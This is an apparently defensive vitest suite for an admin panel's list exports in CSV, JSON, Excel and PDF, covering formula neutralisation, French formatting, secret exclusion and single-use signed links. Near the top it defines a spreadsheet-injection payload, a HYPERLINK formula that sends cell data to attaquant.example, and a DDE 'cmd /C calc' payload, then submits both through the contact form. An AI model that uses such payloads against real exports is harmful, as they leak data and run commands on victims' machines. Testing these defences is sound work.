/**
 * The export service of every list against the real server: the files are opened as a user
 * would (CSV parsed, Excel opened with exceljs, PDF text read), with formulas neutralised,
 * French labels and formats, reference names beside their ids, and no row cap.
 */
import ExcelJS from 'exceljs';
import { PDFParse } from 'pdf-parse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse as parseCsv } from 'csv-parse/sync';
import { startServerAsAdmin } from '../support/admin-session';
import { login, type ApiClient } from '../support/api';
import { startDatabase, type TestDatabase } from '../support/database';
import { openSignedLink, signedLinkFor } from '../support/downloads';
import { createRecord } from '../support/records';
import type { TestServer } from '../support/server';

const MANY = 1_200;
const FORMULA = '=HYPERLINK("http://attaquant.example/vol?d="&A1,"Cliquez ici")';

let database: TestDatabase;
let server: TestServer;
let api: ApiClient;
let token: string;
let adminId: string;

beforeAll(async () => {
  database = await startDatabase();
  ({ server, api, token } = await startServerAsAdmin({ env: { MONGODB_URI: database.uri, CONTACT_RATE_LIMIT: '100' } }));
  adminId = (await api.get('/auth/me', { token })).body.user._id;
  const base = Date.UTC(2026, 0, 1, 8, 0);
  await database.db.collection('contact_messages').insertMany(
    Array.from({ length: MANY }, (_, i) => ({
      name: `Visiteur ${String(i).padStart(4, '0')}`,
      email: `visiteur${i}@exemple.fr`,
      subject: 'information',
      message: 'Bonjour',
      status: i % 3 === 0 ? 'read' : 'new',
      created_at: new Date(base + i * 60_000),
      updated_at: new Date(base + i * 60_000),
    })),
  );
  // A visitor's message through the public form, as an attacker would send it.
  const sent = await fetch(`${server.baseUrl}/api/contact`, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ name: 'Ève Malveillante', email: 'eve@exemple.fr', subject: 'other', message: FORMULA, company: '@SUM(1+1)*cmd|\' /C calc\'!A0' }),
  });
  expect(sent.status).toBe(201);
}, 120_000);

afterAll(async () => {
  await server?.stop();
  await database?.stop();
});

const exportOf = (collection: string, query: Record<string, string>) => openSignedLink(api, token, `/exports/${collection}`, query);

describe('CSV export', () => {
  it('writes every selected row, UTF-8 with a BOM, ";" between cells, French labels, formulas neutralised', async () => {
    const response = await exportOf('contact_messages', { format: 'csv' });
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toContain('text/csv');
    expect(response.headers.get('content-disposition')).toMatch(/attachment; filename="contact-messages-\d{4}-\d{2}-\d{2}-\d{4}\.csv"/);
    const bytes = Buffer.from(await response.arrayBuffer());
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const rows: string[][] = parseCsv(bytes.toString('utf8'), { bom: true, delimiter: ';' });
    const [header, ...body] = rows;
    expect(header).toEqual(expect.arrayContaining(['Identifiant', 'Nom', 'E-mail', 'Sujet', 'Message', 'Statut']));
    expect(body).toHaveLength(MANY + 1);

    const column = (label: string) => header.indexOf(label);
    const eve = body.find((row) => row[column('Nom')] === 'Ève Malveillante')!;
    expect(eve[column('Message')]).toBe(`'${FORMULA}`);
    expect(eve[column('Entreprise')]).toBe(`'@SUM(1+1)*cmd|' /C calc'!A0`);
    expect(eve[column('Sujet')]).toBe('Autre');
    const first = body.find((row) => row[column('Nom')] === 'Visiteur 0000')!;
    expect(first[column('Statut')]).toBe('Lu');
    expect(first[column('Reçu le')] ?? first[header.findIndex((label) => /date|reçu/i.test(label))]).toMatch(/^01\/01\/2026 09:00$/);
  });

  it('exports what the filters and the search select, not a page', async () => {
    const read = await exportOf('contact_messages', { format: 'csv', status: 'read' });
    const rows: string[][] = parseCsv(Buffer.from(await read.arrayBuffer()).toString('utf8'), { bom: true, delimiter: ';' });
    expect(rows).toHaveLength(1 + MANY / 3);

    const searched = await exportOf('contact_messages', { format: 'csv', filter: JSON.stringify({ q: 'Visiteur 011' }), sort: JSON.stringify(['name', 'ASC']) });
    const found: string[][] = parseCsv(Buffer.from(await searched.arrayBuffer()).toString('utf8'), { bom: true, delimiter: ';' });
    expect(found.slice(1).map((row) => row[found[0].indexOf('Nom')])).toEqual(Array.from({ length: 10 }, (_, i) => `Visiteur 011${i}`));
  });

  it('refuses a format it does not know, in French', async () => {
    const response = await exportOf('contact_messages', { format: 'docx' });
    expect(response.status).toBe(400);
    expect((await response.json()).message).toMatch(/Format d’export inconnu/);
  });
});

describe('JSON export', () => {
  it('keeps typed values under the field names, every row', async () => {
    const response = await exportOf('contact_messages', { format: 'json' });
    const rows = (await response.json()) as Record<string, unknown>[];
    expect(rows).toHaveLength(MANY + 1);
    expect(rows.find((row) => row.name === 'Visiteur 0001')).toMatchObject({ email: 'visiteur1@exemple.fr', status: 'new', created_at: '2026-01-01T08:01:00.000Z' });
  });
});

describe('Excel export', () => {
  it('opens in a spreadsheet with the French labels, real dates and neutralised formulas', async () => {
    const response = await exportOf('contact_messages', { format: 'xlsx' });
    expect(response.headers.get('content-type')).toContain('spreadsheetml');
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(Buffer.from(await response.arrayBuffer()) as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0];
    expect(sheet.name).toBe('Messages de contact');
    expect(sheet.rowCount).toBe(MANY + 2);
    const header = (sheet.getRow(1).values as unknown[]).slice(1);
    const col = (label: string) => header.indexOf(label) + 1;
    let eve: ExcelJS.Row | undefined;
    sheet.eachRow((row) => {
      if (row.getCell(col('Nom')).value === 'Ève Malveillante') eve = row;
    });
    expect(eve!.getCell(col('Message')).value).toBe(`'${FORMULA}`);
    expect(eve!.getCell(col('Message')).formula).toBeUndefined();
  });
});

describe('PDF export', () => {
  it('lays out the list columns in a table, in French', async () => {
    const response = await exportOf('contact_messages', { format: 'pdf', q: 'Visiteur 000' });
    expect(response.headers.get('content-type')).toBe('application/pdf');
    const parser = new PDFParse({ data: new Uint8Array(await response.arrayBuffer()) });
    const { text } = await parser.getText();
    await parser.destroy();
    expect(text).toContain('Messages de contact');
    expect(text).toMatch(/Exporté le \d{2}\/\d{2}\/\d{4} à \d{2}:\d{2} — 10 enregistrements/);
    expect(text).toContain('Visiteur 0009');
    expect(text).toContain('01/01/2026 09:00');
  });
});

describe('references', () => {
  it('show the AI usage user and model by name, with their ids in columns of their own', async () => {
    await database.db.collection('ai_models').insertOne({ name: 'Mistral Large', model_id: 'mistral-large', provider: 'mistral', active: true });
    await database.db.collection('ai_usage').insertOne({
      user: adminId,
      model: 'mistral-large',
      input_tokens: 1200,
      output_tokens: 300,
      total_cost: 0.0123,
      latency: 850,
      status: 'success',
      request_id: 'req-1',
      created_at: new Date('2026-07-14T20:05:00Z'),
    });
    const response = await exportOf('ai_usage', { format: 'csv' });
    const [header, row]: string[][] = parseCsv(Buffer.from(await response.arrayBuffer()).toString('utf8'), { bom: true, delimiter: ';' });
    const cell = (label: string) => row[header.indexOf(label)];
    expect(cell('Utilisateur')).toBe('Alice Admin — alice@example.com');
    expect(cell('Utilisateur (identifiant)')).toBe(adminId);
    expect(cell('Modèle')).toBe('Mistral Large');
    expect(cell('Modèle (identifiant)')).toBe('mistral-large');
    expect(cell('Coût')).toBe('0,0123');
    expect(cell('Date')).toBe('14/07/2026 22:05');
    expect(cell('Statut')).toBe('Succès');
  });

  it("show the activity's resource by its name, found in the collection the entry names", async () => {
    const category = await createRecord(api, token, 'blog_categories', { name: 'Souveraineté numérique' });
    const rowOfCategory = async () => {
      const response = await exportOf('user_activity', { format: 'csv' });
      const [header, ...body]: string[][] = parseCsv(Buffer.from(await response.arrayBuffer()).toString('utf8'), { bom: true, delimiter: ';' });
      const row = body.find((r) => r[header.indexOf('Ressource (identifiant)')] === category._id);
      return row && { resource: row[header.indexOf('Ressource')], user: row[header.indexOf('Utilisateur')], email: row[header.indexOf('E-mail de l’auteur')] };
    };
    await expect.poll(rowOfCategory, { timeout: 10_000 }).toEqual({ resource: 'Souveraineté numérique', user: 'Alice Admin', email: 'alice@example.com' });
  });

  it('never export a secret: no password column, no hash anywhere', async () => {
    const response = await exportOf('users', { format: 'csv' });
    const text = Buffer.from(await response.arrayBuffer()).toString('utf8');
    expect(text).not.toMatch(/Mot de passe|\$argon2/);
    expect(text).toContain('alice@example.com');
  });
});

describe('signed links', () => {
  const path = '/api/exports/contact_messages';

  it('open a download once', async () => {
    const signature = await signedLinkFor(api, token, path);
    const url = `${server.baseUrl}${path}?format=json&q=Visiteur%200000&signature=${encodeURIComponent(signature)}`;
    expect((await fetch(url)).status).toBe(200);
    const again = await fetch(url);
    expect(again.status).toBe(401);
    expect((await again.json()).message).toBe('Ce lien a déjà été utilisé : veuillez relancer l’opération');
  });

  it('open no other path', async () => {
    const signature = await signedLinkFor(api, token, path);
    const response = await fetch(`${server.baseUrl}/api/exports/users?signature=${encodeURIComponent(signature)}`);
    expect(response.status).toBe(401);
  });

  it('refuse a forged or absent credential, and are never issued without a session', async () => {
    expect((await fetch(`${server.baseUrl}${path}?signature=abc.def`)).status).toBe(401);
    expect((await fetch(`${server.baseUrl}${path}`)).status).toBe(401);
    expect((await api.post('/signed-links', { path })).status).toBe(401);
    expect((await api.post('/signed-links', { path: 'https://ailleurs.example/' }, { token })).status).toBe(400);
  });

  it('carry their user: a user who may not read the list is refused, and so is a deactivated one', async () => {
    const user = await createRecord(api, token, 'users', { name: 'Uma Utilisatrice', email: 'uma@exemple.fr', role: 'user', password: 'Motdepasse-1', confirmPassword: 'Motdepasse-1' });
    const userToken = await login(api, 'uma@exemple.fr', 'Motdepasse-1');
    const signature = await signedLinkFor(api, userToken, path);
    expect((await fetch(`${server.baseUrl}${path}?signature=${encodeURIComponent(signature)}`)).status).toBe(403);

    const later = await signedLinkFor(api, userToken, path);
    expect((await api.put(`/users/${user._id}`, { active: false }, { token })).status).toBe(200);
    expect((await fetch(`${server.baseUrl}${path}?signature=${encodeURIComponent(later)}`)).status).toBe(401);
  });

  it('are not needed by a script that sends its bearer token', async () => {
    const response = await fetch(`${server.baseUrl}${path}?format=json&q=Visiteur%200001`, { headers: { authorization: `Bearer ${token}` } });
    expect(response.status).toBe(200);
    expect(await response.json()).toHaveLength(1);
  });
});
